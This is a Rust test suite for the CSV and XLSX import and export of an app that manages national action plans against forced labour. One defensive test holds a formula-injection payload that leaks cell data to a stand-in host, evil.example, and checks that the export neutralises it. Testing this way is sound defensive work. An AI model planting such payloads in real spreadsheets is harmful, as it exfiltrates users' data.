use axum::http::StatusCode;

use crate::common::Client;
use crate::plan::{add_activity, plan_setup};

const HEADER: &str = "objective_code,objective_title,outcome_code,outcome_title,activity_code,activity_title,description,lead,supporting,start,end,level,place,budget,currency,targets";

pub async fn import(sec: &mut Client, nap: i64, name: &str, bytes: &[u8]) -> crate::common::Page {
    let page = format!("/t/aland/naps/{nap}/import");
    sec.upload(&page, &page, name, bytes).await
}

pub async fn confirm(
    sec: &mut Client,
    nap: i64,
    preview: &crate::common::Page,
) -> crate::common::Page {
    let draft = preview
        .attr("input[name=draft]", "value")
        .expect("a confirmation form");
    sec.post(
        &format!("/t/aland/naps/{nap}/import/apply"),
        &[("csrf", &preview.csrf()), ("draft", &draft)],
    )
    .await
}

pub fn problems(page: &crate::common::Page) -> Vec<String> {
    page.texts("table.problems tbody tr")
}

#[tokio::test]
async fn problems_are_listed_by_row_and_column_and_nothing_is_stored() {
    let (app, mut sec, nap) = plan_setup().await;
    let file = format!(
        "{HEADER}\n\
         1,Prevention,1.1,People know their rights,1.1.1,Campaign,,MOL,,,,national,,1000,USD,Q2/yearly\n\
         1,Prevention,1.1,People know their rights,1.1.2,,,XYZ,,,,,,,,\n\
         1,Prevention,1.1,People know their rights,1.1.1,Again,,MOL,,,,,,,,\n\
         2,Protection,2.1,Victims are safe,2.1.1,Shelters,,MOL,,2031Q1,,,,,,2024Q3\n"
    );
    let res = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        problems(&res),
        vec![
            "3 Activity Fill in this field.",
            "3 Lead partner No partner has the acronym XYZ.",
            "4 Activity code This activity code is already used on row 2.",
            "5 Start quarter 2031Q1 is outside the NAP's period.",
            "5 Time targets The target Q3 2024 falls outside the activity's period.",
        ]
    );
    assert!(
        res.attr("input[name=rows]", "value").is_none(),
        "no way to confirm"
    );
    assert_eq!(app.count("select count(*) from activities").await, 0);
    assert_eq!(app.count("select count(*) from objectives").await, 1);

    let res = import(&mut sec, nap, "plan.csv", b"objective_code,title\n1,x\n").await;
    assert_eq!(
        problems(&res),
        vec!["1 Objective The column Objective is missing from the first row."]
    );
    let res = import(&mut sec, nap, "plan.xlsx", b"PK\x03\x04 broken").await;
    assert_eq!(
        problems(&res),
        vec!["1 The file could not be read as CSV or XLSX."]
    );
}

#[tokio::test]
async fn the_confirmation_applies_the_rows_checked_once_and_checks_them_again() {
    let (app, mut sec, nap) = plan_setup().await;
    let good = format!(
        "{HEADER}\n1,Prevention,1.1,People know their rights,1.1.1,Campaign,,MOL,,,,,,,,Q2/yearly\n2,Protection,2.1,Victims are safe,2.1.1,Shelters,,MOL,,,,,,,,\n"
    );
    let preview = import(&mut sec, nap, "plan.csv", good.as_bytes()).await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    // The rows wait on the server: the page carries only their draft's number.
    assert!(!preview.body.contains("Shelters\""), "no rows in the form");
    assert_eq!(app.count("select count(*) from import_drafts").await, 1);
    let draft = preview.attr("input[name=draft]", "value").unwrap();

    // Between the preview and the confirmation, MOL's acronym changes: the
    // rows are checked again, and nothing is stored.
    let mut owner = app.owner_conn().await;
    sqlx::query("update partners set acronym = 'MOLX' where acronym = 'MOL'")
        .execute(&mut owner)
        .await
        .unwrap();
    let res = confirm(&mut sec, nap, &preview).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        problems(&res),
        vec![
            "2 Lead partner No partner has the acronym MOL.",
            "3 Lead partner No partner has the acronym MOL."
        ]
    );
    assert_eq!(app.count("select count(*) from activities").await, 0);
    assert_eq!(app.count("select count(*) from objectives").await, 1);

    // Someone else's draft number, or nonsense, imports nothing.
    app.member(
        "aland",
        "sec2@aland.test",
        nap_oversight::authz::Role::Secretariat,
        Some("MOLX"),
        false,
    )
    .await;
    let mut other = app.signed_in("sec2@aland.test").await;
    for number in [draft.as_str(), "x", ""] {
        let page = format!("/t/aland/naps/{nap}/import");
        let token = other.get(&page).await.csrf();
        let res = other
            .post(
                &format!("{page}/apply"),
                &[("csrf", &token), ("draft", number)],
            )
            .await;
        assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{number}");
        assert_eq!(
            problems(&res),
            vec!["1 This check was already imported or has expired. Upload the file again."]
        );
    }

    sqlx::query("update partners set acronym = 'MOL' where acronym = 'MOLX'")
        .execute(&mut owner)
        .await
        .unwrap();
    let res = confirm(&mut sec, nap, &preview).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    assert_eq!(app.count("select count(*) from activities").await, 2);
    assert_eq!(app.count("select count(*) from outcomes").await, 2);
    assert_eq!(
        app.count("select count(*) from target_occurrences").await,
        5
    );
    // Confirming twice imports once.
    let again = confirm(&mut sec, nap, &preview).await;
    assert_eq!(again.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(app.count("select count(*) from activities").await, 2);
    assert_eq!(app.count("select count(*) from import_drafts").await, 0);
}

#[tokio::test]
async fn importing_the_same_file_twice_changes_nothing_and_an_edit_updates_by_code() {
    let (app, mut sec, nap) = plan_setup().await;
    let file = format!(
        "{HEADER}\n1,Prevention,1.1,People know their rights,1.1.1,Campaign,Radio and posters,MOL,\"CTU, EF\",2025Q3,2027Q4,regional,North,12000,USD,\"Q2/yearly, 2026Q1\"\n"
    );
    let preview = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    assert_eq!(
        preview.texts("table.changes tbody tr"),
        vec!["Activity 1.1.1 Campaign New"]
    );
    assert_eq!(
        confirm(&mut sec, nap, &preview).await.status,
        StatusCode::SEE_OTHER
    );
    let stamp = || async {
        let mut conn = app.owner_conn().await;
        sqlx::query_scalar::<_, String>(
            "select string_agg(updated_at::text, ',' order by id) from (select id, updated_at from activities union all select id, updated_at from outcomes union all select id, updated_at from objectives) x",
        )
        .fetch_one(&mut conn)
        .await
        .unwrap()
    };
    let before = stamp().await;
    let occurrences = app.count("select count(*) from target_occurrences").await;

    let again = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    assert!(again.texts("ul.summary li").contains(&"0 new".to_owned()));
    assert!(
        again
            .texts("ul.summary li")
            .contains(&"0 changed".to_owned())
    );
    assert!(again.texts("table.changes tbody tr").is_empty());
    assert_eq!(
        confirm(&mut sec, nap, &again).await.status,
        StatusCode::SEE_OTHER
    );
    assert_eq!(stamp().await, before, "nothing was written");
    assert_eq!(
        app.count("select count(*) from target_occurrences").await,
        occurrences
    );

    let edited = file.replace("Campaign", "Campaign on the radio");
    let preview = import(&mut sec, nap, "plan.csv", edited.as_bytes()).await;
    assert_eq!(
        preview.texts("table.changes tbody tr"),
        vec!["Activity 1.1.1 Campaign on the radio Changed"]
    );
    assert_eq!(
        confirm(&mut sec, nap, &preview).await.status,
        StatusCode::SEE_OTHER
    );
    assert_eq!(app.count("select count(*) from activities").await, 1);
    assert_eq!(
        app.count("select count(*) from activities where title = 'Campaign on the radio'")
            .await,
        1
    );

    // One file both changes 1.1.1 (a partner and a target fewer) and adds
    // 1.1.2: written together, each keeps exactly what its row says.
    let mixed = format!(
        "{HEADER}\n1,Prevention,1.1,People know their rights,1.1.1,Campaign on the radio,Radio and posters,MOL,CTU,2025Q3,2027Q4,regional,North,12000,USD,Q2/yearly\n\
         1,Prevention,1.1,People know their rights,1.1.2,Hotline,,CTU,\"MOL, EF\",,,national,,,,2026Q4\n"
    );
    let preview = import(&mut sec, nap, "plan.csv", mixed.as_bytes()).await;
    assert_eq!(
        preview.texts("table.changes tbody tr"),
        vec![
            "Activity 1.1.1 Campaign on the radio Changed",
            "Activity 1.1.2 Hotline New"
        ]
    );
    assert_eq!(
        confirm(&mut sec, nap, &preview).await.status,
        StatusCode::SEE_OTHER
    );
    let of = |code: &str, what: &str| {
        format!(
            "select count(*) from {what} x join activities a on a.id = x.activity_id where a.code = '{code}'"
        )
    };
    for (code, what, expected) in [
        ("1.1.1", "activity_partners", 1),
        ("1.1.1", "time_targets", 1),
        // Q2 of 2026 and 2027, inside 2025Q3–2027Q4.
        ("1.1.1", "target_occurrences", 2),
        ("1.1.2", "activity_partners", 2),
        ("1.1.2", "time_targets", 1),
        ("1.1.2", "target_occurrences", 1),
    ] {
        assert_eq!(app.count(&of(code, what)).await, expected, "{code} {what}");
    }
}

/// Export, import into an empty NAP, export again: the same file.
async fn round_trip(extension: &str) {
    let (app, mut sec, nap) = plan_setup().await;
    for fields in [
        vec![
            ("outcome", "1.1"),
            ("code", "1.1.1"),
            ("title", "Campaign, with a comma"),
            ("lead", "MOL"),
            ("supporting", "CTU, EF"),
            ("start", "2025Q3"),
            ("end", "2028Q2"),
            ("level", "regional"),
            ("place", "North"),
            ("budget", "12000"),
            ("currency", "USD"),
            ("targets", "Q2/yearly, 2026Q1"),
            ("description", "Line one\nline \"two\""),
        ],
        vec![
            ("outcome", "1.1"),
            ("code", "1.1.10"),
            ("title", "Hotline"),
            ("targets", "2029Q4"),
        ],
    ] {
        assert_eq!(
            add_activity(&mut sec, nap, &fields).await.status,
            StatusCode::SEE_OTHER
        );
    }
    // An outcome without activities also travels.
    let objective = app.count("select id from objectives").await.to_string();
    let path = format!("/t/aland/naps/{nap}/outcomes/new");
    sec.submit(
        &path,
        &path,
        &[
            ("objective", &objective),
            ("code", "1.2"),
            ("title", "Fair recruitment"),
        ],
    )
    .await;

    let first = sec
        .get_bytes(&format!("/t/aland/naps/{nap}/export.{extension}"))
        .await;
    let res = sec
        .submit(
            "/t/aland/naps/new",
            "/t/aland/naps/new",
            &[
                ("title", "Copy"),
                ("theme", "forced-labour"),
                ("start_year", "2025"),
                ("end_year", "2029"),
                ("status", "draft"),
                // What the plan serves is set on its form, not imported:
                // the same as the first plan's, the exports are the same.
                ("alignment", "SDG 8.7"),
            ],
        )
        .await;
    let copy: i64 = res.location().rsplit('/').next().unwrap().parse().unwrap();
    let preview = import(&mut sec, copy, &format!("plan.{extension}"), &first).await;
    assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
    assert_eq!(
        confirm(&mut sec, copy, &preview).await.status,
        StatusCode::SEE_OTHER
    );
    let second = sec
        .get_bytes(&format!("/t/aland/naps/{copy}/export.{extension}"))
        .await;
    if extension == "csv" {
        assert_eq!(
            String::from_utf8(second).unwrap(),
            String::from_utf8(first).unwrap()
        );
    } else {
        let a = nap_oversight::features::plan::transfer::parse_file(&first).unwrap();
        let b = nap_oversight::features::plan::transfer::parse_file(&second).unwrap();
        assert_eq!(a, b);
        assert_eq!(a.len(), 3);
    }
    assert_eq!(app.count(&format!("select count(*) from target_occurrences o join activities a on a.id = o.activity_id where a.nap_id = {copy}")).await, 5);
}

#[tokio::test]
async fn csv_export_and_import_round_trip() {
    round_trip("csv").await;
}

#[tokio::test]
async fn xlsx_export_and_import_round_trip() {
    round_trip("xlsx").await;
}

#[tokio::test]
async fn the_xlsx_export_lists_every_target_occurrence() {
    let (_app, mut sec, nap) = plan_setup().await;
    add_activity(
        &mut sec,
        nap,
        &[
            ("outcome", "1.1"),
            ("code", "1.1.1"),
            ("title", "T"),
            ("targets", "Q2/yearly"),
        ],
    )
    .await;
    let bytes = sec
        .get_bytes(&format!("/t/aland/naps/{nap}/export.xlsx"))
        .await;
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    assert_eq!(
        book.sheet_names(),
        vec!["Plan", "Targets", "Updates", "Indicators", "Risks"]
    );
    let targets = book.worksheet_range("Targets").unwrap();
    let rows: Vec<Vec<String>> = targets
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    assert_eq!(rows[0], vec!["Activity code", "Target", "Quarter", "State"]);
    assert_eq!(rows.len(), 1 + 5);
    assert_eq!(rows[1], ["1.1.1", "Q2 every year", "Q2 2025", "Missed"]);
    let observer_export = {
        let mut obs = _app.signed_in("obs@aland.test").await;
        obs.get(&format!("/t/aland/naps/{nap}/export.csv"))
            .await
            .status
    };
    assert_eq!(
        observer_export,
        StatusCode::OK,
        "members may download the plan"
    );
    let mut obs = _app.signed_in("obs@aland.test").await;
    assert_eq!(
        obs.get(&format!("/t/aland/naps/{nap}/import")).await.status,
        StatusCode::FORBIDDEN
    );
}

/// The finding: a title such as `=HYPERLINK(…)` went raw into the CSV,
/// where a spreadsheet program runs it. Now every such cell starts with an
/// apostrophe, the XLSX keeps it as text, and import takes exactly that
/// apostrophe away again, so nothing changes on the way round.
#[tokio::test]
async fn formulas_in_titles_never_run_and_survive_the_round_trip() {
    let (app, mut sec, nap) = plan_setup().await;
    let hostile = [
        (
            "1.1.1",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+1 on the campaign",
        ),
        ("1.1.2", "-5 days of training", "@inspectors of the north"),
        ("1.1.3", "'=kept apostrophe", "'quoted on purpose"),
    ];
    for (code, title, description) in hostile {
        let res = add_activity(
            &mut sec,
            nap,
            &[
                ("outcome", "1.1"),
                ("code", code),
                ("title", title),
                ("description", description),
            ],
        )
        .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    }
    let csv = sec
        .get_bytes(&format!("/t/aland/naps/{nap}/export.csv"))
        .await;
    let mut cells = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(&csv[..]);
    let mut written: Vec<String> = Vec::new();
    for record in cells.records() {
        let record = record.unwrap();
        written.extend([record[5].to_owned(), record[6].to_owned()]);
    }
    for cell in &written {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    assert!(written.contains(&"'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")".to_owned()));
    assert!(written.contains(&"''=kept apostrophe".to_owned()));
    // XLSX cells are text, never formulas.
    let xlsx = sec
        .get_bytes(&format!("/t/aland/naps/{nap}/export.xlsx"))
        .await;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx.clone())).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(
        &mut archive.by_name("xl/worksheets/sheet1.xml").unwrap(),
        &mut sheet,
    )
    .unwrap();
    assert!(!sheet.contains("<f>"), "no formula in the workbook");

    // Both files import into a new plan with every title as it was typed.
    for (extension, bytes) in [("csv", &csv), ("xlsx", &xlsx)] {
        let res = sec
            .submit(
                "/t/aland/naps/new",
                "/t/aland/naps/new",
                &[
                    ("title", &format!("Copy {extension}")),
                    ("theme", "forced-labour"),
                    ("start_year", "2025"),
                    ("end_year", "2029"),
                    ("status", "draft"),
                ],
            )
            .await;
        let copy: i64 = res.location().rsplit('/').next().unwrap().parse().unwrap();
        let preview = import(&mut sec, copy, &format!("plan.{extension}"), bytes).await;
        assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
        assert_eq!(
            confirm(&mut sec, copy, &preview).await.status,
            StatusCode::SEE_OTHER
        );
        for (code, title, description) in hostile {
            let mut conn = app.owner_conn().await;
            let (t, d): (String, String) = sqlx::query_as(
                "select title, description from activities where nap_id = $1 and code = $2",
            )
            .bind(copy)
            .bind(code)
            .fetch_one(&mut conn)
            .await
            .unwrap();
            assert_eq!(
                (t.as_str(), d.as_str()),
                (title, description),
                "{extension} {code}"
            );
        }
    }
}

/// An objective and an outcome under it, made through the pages.
async fn add_outcome(
    app: &crate::common::TestApp,
    sec: &mut Client,
    nap: i64,
    objective: (&str, &str),
    outcome: (&str, &str),
) {
    let base = format!("/t/aland/naps/{nap}");
    let id = format!(
        "select id from objectives where nap_id = {nap} and code = '{}'",
        objective.0
    );
    if app.count(&format!("select count(*) from ({id}) x")).await == 0 {
        let path = format!("{base}/objectives/new");
        let res = sec
            .submit(
                &path,
                &path,
                &[("code", objective.0), ("title", objective.1)],
            )
            .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    }
    let objective_id = app.count(&id).await.to_string();
    let path = format!("{base}/outcomes/new");
    let res = sec
        .submit(
            &path,
            &path,
            &[
                ("objective", &objective_id),
                ("code", outcome.0),
                ("title", outcome.1),
            ],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
}

/// The finding: a round trip through a spreadsheet program turned the
/// outcome "1.0" into "1", and the import made a new outcome "1" beside the
/// real one. Codes leave as text; a code that differs from the plan's only
/// as a number would is a problem beside its row, and nothing is written.
#[tokio::test]
async fn a_code_rewritten_as_a_number_is_flagged_and_nothing_is_duplicated() {
    let (app, mut sec, nap) = plan_setup().await;
    add_outcome(
        &app,
        &mut sec,
        nap,
        ("2", "Protection"),
        ("2.10", "Victims are safe"),
    )
    .await;
    add_activity(
        &mut sec,
        nap,
        &[
            ("outcome", "2.10"),
            ("code", "2.10.1"),
            ("title", "Shelters"),
        ],
    )
    .await;

    // The export writes every code as text, read back as written.
    let xlsx = sec
        .get_bytes(&format!("/t/aland/naps/{nap}/export.xlsx"))
        .await;
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(xlsx.clone())).unwrap();
    let plan = book.worksheet_range("Plan").unwrap();
    let codes: Vec<&calamine::Data> = plan
        .rows()
        .skip(1)
        .flat_map(|r| [&r[0], &r[2], &r[4]])
        .filter(|c| **c != calamine::Data::Empty)
        .collect();
    assert!(!codes.is_empty());
    for cell in &codes {
        assert!(
            matches!(cell, calamine::Data::String(_)),
            "a code written as {cell:?}"
        );
    }
    assert!(codes.contains(&&calamine::Data::String("2.10".into())));
    let back = nap_oversight::features::plan::transfer::parse_file(&xlsx).unwrap();
    assert!(back.iter().any(|r| r.outcome_code == "2.10"));

    let count = |table: &str| format!("select count(*) from {table} where nap_id = {nap}");
    let before = (
        app.count(&count("objectives")).await,
        app.count(&count("outcomes")).await,
        app.count(&count("activities")).await,
    );
    // The same plan as a spreadsheet program writes codes it took for
    // numbers: 1 as 1.0, 2.10 as 2.1.
    let file = format!(
        "{HEADER}\n\
         1.0,Prevention,1.1,People know their rights,,,,,,,,,,,,\n\
         2,Protection,2.1,Victims are safe,2.10.1,Shelters,,,,,,,,,,\n\
         2,Protection,2.1,Victims are safe,2.10.2,Hotline,,,,,,,,,,\n"
    );
    let res = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        problems(&res),
        vec![
            "2 Objective code 1.0 is not an objective of the plan, but it looks like the existing objective 1: a spreadsheet may rewrite a code it takes for a number. Write 1 to update that objective; if 1.0 is a new objective, keep the rows of 1 in the file as well.",
            "3 Outcome code 2.1 is not an outcome of the plan, but it looks like the existing outcome 2.10: a spreadsheet may rewrite a code it takes for a number. Write 2.10 to update that outcome; if 2.1 is a new outcome, keep the rows of 2.10 in the file as well.",
        ]
    );
    assert!(
        res.attr("input[name=draft]", "value").is_none(),
        "no way to confirm"
    );
    assert_eq!(app.count("select count(*) from import_drafts").await, 0);

    // A file that names 2.10 too means a new outcome 2.1 beside it.
    let both = format!(
        "{HEADER}\n\
         2,Protection,2.1,Victims are found,,,,,,,,,,,,\n\
         2,Protection,2.10,Victims are safe,2.10.1,Shelters,,,,,,,,,,\n"
    );
    let preview = import(&mut sec, nap, "plan.csv", both.as_bytes()).await;
    assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
    assert_eq!(
        preview.texts("table.changes tbody tr"),
        vec!["Outcome 2.1 Victims are found New"]
    );

    // Checked again on confirmation: a file that was fine at its preview
    // is refused once the plan holds the code it looks like.
    let lone = format!("{HEADER}\n2,Protection,2.20,Victims are heard,,,,,,,,,,,,\n");
    let preview = import(&mut sec, nap, "plan.csv", lone.as_bytes()).await;
    assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
    add_outcome(
        &app,
        &mut sec,
        nap,
        ("2", "Protection"),
        ("2.2", "Victims are heard"),
    )
    .await;
    let res = confirm(&mut sec, nap, &preview).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(problems(&res).len(), 1);
    assert!(problems(&res)[0].starts_with("2 Outcome code 2.20 is not an outcome of the plan, but it looks like the existing outcome 2.2"));
    assert_eq!(
        (
            app.count(&count("objectives")).await,
            app.count(&count("outcomes")).await,
            app.count(&count("activities")).await,
        ),
        (before.0, before.1 + 1, before.2),
        "only the outcome 2.2 made through its page"
    );
}

#[tokio::test]
async fn the_preview_shows_each_changed_field_and_the_targets_it_creates() {
    let (_app, mut sec, nap) = plan_setup().await;
    let file = format!(
        "{HEADER}\n1,Prevention,1.1,People know their rights,1.1.1,Campaign,,MOL,CTU,2025Q3,2027Q4,,,12000,USD,Q2/yearly\n"
    );
    let preview = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    // A new activity: the targets it creates, each with its quarters.
    assert_eq!(
        preview.texts("#change-activity-1\\.1\\.1 ul.new-targets li"),
        vec!["Q2 every year: Q2 2026, Q2 2027"]
    );
    assert!(
        preview.texts("table.fields").is_empty(),
        "nothing was there before"
    );
    assert_eq!(
        confirm(&mut sec, nap, &preview).await.status,
        StatusCode::SEE_OTHER
    );

    let edited = format!(
        "{HEADER}\n1,Prevention of forced labour,1.1,People know their rights,1.1.1,Campaign on the radio,,EF,CTU,2025Q3,2027Q4,,,15000,USD,\"Q2/yearly, 2026Q1\"\n"
    );
    let preview = import(&mut sec, nap, "plan.csv", edited.as_bytes()).await;
    assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
    assert_eq!(
        preview.texts("table.changes tbody tr"),
        vec![
            "Objective 1 Prevention of forced labour Changed",
            "Activity 1.1.1 Campaign on the radio Changed"
        ]
    );
    // Each changed row links to what changes in it, field by field.
    assert_eq!(
        preview.attr("table.changes tbody tr a", "href").as_deref(),
        Some("#change-objective-1")
    );
    assert_eq!(
        preview.texts("#change-objective-1 table.fields tbody tr"),
        vec!["Objective Prevention Prevention of forced labour"]
    );
    assert_eq!(
        preview.texts("#change-activity-1\\.1\\.1 table.fields tbody tr"),
        vec![
            "Activity Campaign Campaign on the radio",
            "Lead partner MOL EF",
            "Planned budget 12000 15000",
            "Time targets Q2 every year Q2/yearly, 2026Q1",
        ]
    );
    assert_eq!(
        preview.texts("#change-activity-1\\.1\\.1 ul.new-targets li"),
        vec!["Q1 2026: Q1 2026"]
    );
}

#[tokio::test]
async fn rows_of_the_plan_missing_from_the_file_are_listed_and_kept() {
    let (app, mut sec, nap) = plan_setup().await;
    add_outcome(
        &app,
        &mut sec,
        nap,
        ("1", "Prevention"),
        ("1.2", "Fair recruitment"),
    )
    .await;
    for code in ["1.1.1", "1.1.2", "1.1.3"] {
        let res = add_activity(
            &mut sec,
            nap,
            &[("outcome", "1.1"), ("code", code), ("title", "Work")],
        )
        .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    }
    let file =
        format!("{HEADER}\n1,Prevention,1.1,People know their rights,1.1.2,Work,,,,,,,,,,\n");
    let preview = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
    assert_eq!(
        preview.texts("ul.absent li"),
        vec![
            "Outcomes not in the file, kept as they are (1): 1.2",
            "Activities not in the file, kept as they are (2): 1.1.1, 1.1.3",
        ]
    );
    assert_eq!(
        confirm(&mut sec, nap, &preview).await.status,
        StatusCode::SEE_OTHER
    );
    assert_eq!(app.count("select count(*) from activities").await, 3);
    assert_eq!(app.count("select count(*) from outcomes").await, 2);
}

#[tokio::test]
async fn columns_the_import_does_not_read_are_named() {
    let (_app, mut sec, nap) = plan_setup().await;
    add_activity(
        &mut sec,
        nap,
        &[("outcome", "1.1"), ("code", "1.1.1"), ("title", "Campaign")],
    )
    .await;
    let csv = sec
        .get_bytes(&format!("/t/aland/naps/{nap}/export.csv"))
        .await;
    let preview = import(&mut sec, nap, "plan.csv", &csv).await;
    assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
    assert_eq!(
        preview.texts("p.ignored"),
        vec![
            "These columns are not imported, and the plan keeps what it has: Status, Schedule, Progress (%), Spending, SDG targets and ILO standards. Status, progress and spending are reported through activity updates; SDG targets and ILO standards are set on the forms of the plan, its objectives, outcomes and activities."
        ]
    );
    // Named beside the problems too, and a column of one's own as well.
    let file = format!(
        "{HEADER},Our notes\n1,Prevention,1.1,People know their rights,1.1.1,,,,,,,,,,,,call back\n"
    );
    let res = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        res.texts("p.ignored"),
        vec![
            "These columns are not imported, and the plan keeps what it has: Our notes. Status, progress and spending are reported through activity updates; SDG targets and ILO standards are set on the forms of the plan, its objectives, outcomes and activities."
        ]
    );
}

#[tokio::test]
async fn export_files_are_named_after_the_plan() {
    let (_app, mut sec, nap) = plan_setup().await;
    for extension in ["csv", "xlsx"] {
        let res = sec
            .get(&format!("/t/aland/naps/{nap}/export.{extension}"))
            .await;
        assert_eq!(res.status, StatusCode::OK);
        let disposition = res.headers[axum::http::header::CONTENT_DISPOSITION]
            .to_str()
            .unwrap();
        assert!(
            disposition.starts_with(&format!(
                "attachment; filename=\"aland-plan-against-forced-labour-2025-2029.{extension}\""
            )),
            "{disposition}"
        );
    }
}

#[tokio::test]
async fn activities_missing_from_the_file_go_only_when_asked_and_never_with_history() {
    let (app, mut sec, nap) = plan_setup().await;
    for code in ["1.1.1", "1.1.2", "1.1.3"] {
        let res = add_activity(
            &mut sec,
            nap,
            &[("outcome", "1.1"), ("code", code), ("title", "Work")],
        )
        .await;
        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    }
    let reported = app
        .count("select id from activities where code = '1.1.3'")
        .await;
    let res = crate::progress::post(
        &mut sec,
        nap,
        reported,
        &[("status", "on-track"), ("progress", "5")],
    )
    .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);

    let file =
        format!("{HEADER}\n1,Prevention,1.1,People know their rights,1.1.2,Work,,,,,,,,,,\n");
    let preview = import(&mut sec, nap, "plan.csv", file.as_bytes()).await;
    assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
    assert_eq!(
        preview.texts("label:has(input[name=delete_absent])"),
        vec!["Delete instead the activities not in the file (1): 1.1.1. They go for good."]
    );
    assert!(
        preview
            .attr("input[name=delete_absent]", "checked")
            .is_none(),
        "never ticked for the reader"
    );
    assert_eq!(
        preview.texts("p.with-history"),
        vec![
            "These activities are not in the file but have status updates or confidential records, so they stay in any case: 1.1.3"
        ]
    );
    let draft = preview.attr("input[name=draft]", "value").unwrap();
    let res = sec
        .post(
            &format!("/t/aland/naps/{nap}/import/apply"),
            &[
                ("csrf", &preview.csrf()),
                ("draft", &draft),
                ("delete_absent", "yes"),
            ],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let mut conn = app.owner_conn().await;
    let codes: Vec<String> =
        sqlx::query_scalar("select code from activities where nap_id = $1 order by code")
            .bind(nap)
            .fetch_all(&mut conn)
            .await
            .unwrap();
    assert_eq!(codes, ["1.1.2", "1.1.3"], "the one with history stays");
    assert_eq!(
        app.count("select count(*) from status_updates").await,
        1,
        "and its history with it"
    );
}
